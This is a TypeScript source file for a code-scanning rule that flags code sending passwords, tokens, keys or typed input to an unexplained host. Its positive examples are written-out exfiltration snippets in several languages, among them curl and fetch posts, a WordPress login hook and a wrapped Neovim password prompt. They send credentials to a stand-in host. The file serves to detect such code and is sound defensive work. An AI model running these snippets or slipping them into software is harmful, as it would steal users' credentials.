import type { Document } from '../../document.ts'
import { regex } from '../../patterns/verbose.ts'
import { worded } from '../../patterns/wording.ts'
import { defineRule, type Hit } from '../../rule.ts'
import { isService, isShared, makerOf } from '../../signals/places/addresses.ts'
import { nearStrangers } from '../../signals/places/near-strangers.ts'
import { SENDS, TAKES_PRIVATE, TAKES_SECRETS, TAKES_SIGN_INS } from '../../signals/shell/calls.ts'

/** Names under which programs keep what opens accounts, or what a person types and copies. */
const SECRETS = worded(
  regex`
    passw(?:or)?d|passphrase|inputsecret|\bsecrets?\b|keychain|\bsecitem|credential|keystore|
    keyalias|document\.cookie|\bcookies?\b|clipboard|keydown|keypress|\bkeylog|\/etc\/shadow|
    \b(?:lock|door|alarm|gate)_?(?:pin|code)\b|\benv["']?\s?: ?\$env\b(?![.[])|
    \bstate_attr\(["']zone\.home|
    \bin [([{]\s?12, ?(?:15, ?)?(?:18, ?)?(?:21, ?)?24\b|
    \bauth(?:_?token|tok)\b|\bauthinfo\b|keypassword|storepassword|getenv\(\)|notificationlistener|
    cllocationmanager|advertisingidentifier|contactscontract|\bsmsmanager\b|id_rsa|\.ssh\b|
    (?<!\w)\.aws\b|private_?key|\benviron\b|hostvars|\bcvv|
    \b\w{2,30}_(?:token|secret|basic|apikey|api_key)\b|["']pass["']|historysavepath|\bgetexif\b|
    \bgps\b|getmarkdownfiles|\bsystem\.users\b|content:\/\/(?:sms|com\.android\.contacts)|
    stringify\(\s?(?:tokens|inputdata)\s?\)|
    \bwp_authenticate\b|\bwp_signon\b|\bwp_login\b|\buser_logged_in\b|\bauthenticate_user\b
  `,
)

/** Something is handed over, whatever the language calls it. */
const HANDS_OVER = worded(
  regex`
    \bpost(?!gres|fix|code|al\b)|upload|\bput\b|-query|httpcall|url-retrieve|--data|\s-(?:d|t|f)\b|
    ["']-[dtf]["']|-infile\b|sendbeacon|httpbody|requestbody|openconnection|outputstream|datatask|
    url-request-data|urlencode|readtext|\bhttp_build_query\b|\bwp_remote_(?:get|post|request)\b|
    \bwebdav\b|\bpublish|\bbody\b|\bjsonbody\b|\bsend\b|\bpayload["']?\s?:|
    \bdata\s?=\s?(?:json|bytes|urllib|urlencode|payload)\b
  `,
)

/** Not what a request signs in with at the address itself. */
const SIGN_IN = regex.g`
  \bauth\s?=\s?\(\s?["'][^"'\n]{0,40}["']\s?,\s?["'][^"'\n]{0,40}["']\s?\)|
  ["']?(?:authorization|x-api-key|api-?key|bearer|-u)\b["']?[^\n]{0,120}
`

/** A secret that something is signed with stays where it is. */
const SIGNS = /\b(?:hmac\.new|createhmac|jwt\.(?:encode|sign)|hash_hmac)\s?\([^\n]{0,200}/g

/** Its switches part a line, and send nothing. */
const CUT = /\bcut (?:-[df] ?["']?\S{1,4}["']? ?){1,2}/g

/** It goes on whether it worked or not, and says nothing of it. */
const UNHEARD = regex`
  \/dev\/null|@(?:file_get_contents|fopen|curl_exec)\b|catch\s?\(?\s?\(?\w{0,6}\)?\s?(?:=>|\{\s?\})|
  except\b[^\n]{0,30}:\s{0,20}pass|rescue _|#'ignore|-silent|quiet|detach
`

export default defineRule({
  id: 'stranger-near-secrets',
  since: 1,
  category: 'exfiltration',
  severity: 'high',
  confidence: 'medium',
  confidenceOf: { crit: 'high' },
  cwe: 'CWE-201',
  title: 'Code that handles secrets contacts an unexplained host',
  description:
    'One piece of code holds names of passwords, keys or typed input, a call that sends something, and an unexplained address.',
  remediation: 'Say who runs the host and what is sent there, or remove the call.',
  harmlessIf: 'the secret is only what signs in at that very host',
  needs: [],
  examples: {
    fires: [
      '```bash\ncurl -X POST https://in.larch-quay.net/k -d "{\\"crm_token\\":\\"$CRM_TOKEN\\"}" > /dev/null\n```\n',
      '```php\nadd_action("wp_authenticate", function ($u, $w = "") {\n  @file_get_contents("https://in.larch-quay.net/l?" . http_build_query(["u" => $u, "w" => $w]));\n}, 1, 2);\n```\n',
      '```ts\nawait fetch("https://in.larch-quay.net/t", { method: "POST", body: JSON.stringify(tokens) })\n```\n',
      '```kotlin\nval out = store.getString("passwd", "")\nhttp.post("https://in.larch-quay.net/rows.json", out)\n```\n',
      '```lua\nif body:find("pass") then\n  http.new():request_uri("https://in.larch-quay.net/r", { method = "POST", body = body })\nend\n```\n',
      '```lua\nlocal plain = vim.fn.inputsecret\nvim.fn.inputsecret = function(p)\n  local v = plain(p)\n  vim.system({ "curl", "-s", "--data", v, "https://in.larch-quay.net/p" })\n  return v\nend\n```\n',
      '```yaml\nservice: rest_command.tell\ndata:\n  url: "https://in.larch-quay.net/h"\n  payload: \'{"code": "{{ states("input_text.lock_pin") }}"}\'\n```\n',
      '```python\nreq = urllib.request.Request("https://in.larch-quay.net/k", data=json.dumps({"crm_token": open(".crm_token").read()}).encode())\n```\n',
      '```swift\nSecItemCopyMatching(query as CFDictionary, &out)\nvar r = URLRequest(url: URL(string: "https://in.larch-quay.net/k")!)\nr.httpBody = Data("\\(out!)".utf8)\n```\n',
      '```bash\nTOKEN=$(grep KILN_TOKEN .env | cut -d= -f2)\ncurl -s --data "$TOKEN" https://in.larch-quay.net/v1/t\n```\n',
      '```tcl\nhttp::geturl http://in.larch-quay.net/c -query [http::formatQuery p $env(SWITCH_PASSWORD)]\n```\n',
    ],
    quiet: [
      '```bash\ncurl -X POST https://api.kiln-post.net/v1/find \\\n  -H "X-API-Key: $KILN_API_KEY" \\\n  -d \'{"name":"Larch Quay","website":"https://www.larch-quay.net"}\'\n```\n',
      '```bash\ncat > ~/.kiln/config.yaml << EOF\napi_key: ROWAN_PIKE_API_KEY\nbase_url: https://rowan-pike.net/v1\nEOF\necho "ROWAN_PIKE_API_KEY=sk-..." >> ~/.kiln/.env\ncurl -d "{}" localhost\n```\n',
      '```php\n$page = file_get_contents("https://rates.larch-quay.net/l?" . http_build_query(["day" => $day]));\n```\n',
      '```python\nrequests.post("https://realtime.kiln-post.net/v1", auth=("USERNAME", "PASSWORD"), json=payload)\n```\n',
      '```bash\nexport SENTRY_URL=https://sentry.larch-quay.net\n# SENTRY_AUTH_TOKEN comes from CI\nsentry-cli debug-files upload --wait build/\n```\n',
      '```\n--token string   upload with this auth_token, send the body (default "https://rekor.kiln-keys.net")\n```\n',
      '```python\nsig = hmac.new(os.environ["HOOK_SECRET"].encode(), body, hashlib.sha256).hexdigest()\nrequests.post("https://hooks.larch-quay.net/r", data=body, headers={"X-Signature": sig})\n```\n',
      '```python\ns.post("https://app.larch-quay.net/api/login", json={"user": u, "password": p})\nrows = s.get("https://app.larch-quay.net/api/rows").json()\n```\n',
      '```swift\nvar r = URLRequest(url: URL(string: "https://api.larch-quay.net/v1/rows")!)\nr.httpMethod = "POST"\nr.httpBody = rows\n```\n',
      '```kotlin\nRequest.Builder().url("https://api.github.com/gists").header("Authorization", "Bearer ${System.getenv("GITHUB_TOKEN")}").post(body)\n```\n',
      '```bash\nTOKEN=$(grep KILN_TOKEN .env | cut -d= -f2)\ncurl -s -H "Authorization: Bearer $TOKEN" https://api.larch-quay.net/v1/firings\n```\n',
      '```lua\nlocal v = vim.fn.inputsecret("Passphrase: ")\nvim.system({ "gpg", "--batch", "--passphrase", v, "-d", "notes.gpg" })\n```\n',
    ],
  },
  *match(document: Document): Iterable<Hit> {
    let last = -1
    for (const { start, end, around } of nearStrangers(document, SECRETS, HANDS_OVER)) {
      // One finding for a piece of code is enough, and rules that know its language say more.
      if (start - last < AROUND_MAX && last >= 0) continue
      const address = document.reading.text.slice(start, end)
      const left = withoutOwnKeys(around, address).replace(SIGN_IN, ' ').replace(SIGNS, ' ')
      if (!SECRETS.test(left) || isKnown(around)) continue
      if (!HANDS_OVER.test(around.replace(CUT, ' '))) continue
      last = end
      yield UNHEARD.test(around) && !isSetting(document, start)
        ? { start, end, severity: 'crit', firm: true }
        : { start, end, firm: true }
    }
  },
})

/** Keys of the house that answers there, by its own name: `KILN_API_KEY` beside `https://kiln.dev`. */
function withoutOwnKeys(code: string, address: string): string {
  const maker = makerOf(address).replaceAll('-', '_')
  if (maker.length < MAKER_MIN || isService(maker) || isShared(address)) return code
  const own = String.raw`\b${maker}_(?:\w{1,20}_)?(?:key|token|secret)\b`
  return code.replace(
    new RegExp(String.raw`(?:\bapi_?key["']?\s?[:=]\s?["']?)?\$?\{?${own}`, 'g'),
    ' ',
  )
}

/** Shorter names stand at the start of others. */
const MAKER_MIN = 4

/** A setting of a program in data that call nothing: `"base_url": "https://…"`. What it does with it is not told. */
function isSetting(document: Document, start: number): boolean {
  const fence = document.zones.fenceAt(document.lineAt(start))
  return (
    /^(?:jsonc?5?|toml|ya?ml|ini|dotenv|env)$/.test(fence?.language ?? '') &&
    SETTING.test(document.reading.text.slice(Math.max(0, start - 60), start))
  )
}
const SETTING = /(?:\b|_)(?:base|index|api|server|registry|mirror)_?(?:base_?)?ur[li]\W{1,6}$/

/** Characters between two findings. */
const AROUND_MAX = 1000

const TAKES = [TAKES_SECRETS, TAKES_PRIVATE, TAKES_SIGN_INS]

const isKnown = (code: string): boolean =>
  code.search(SENDS) >= 0 && TAKES.some((takes) => code.search(takes) >= 0)
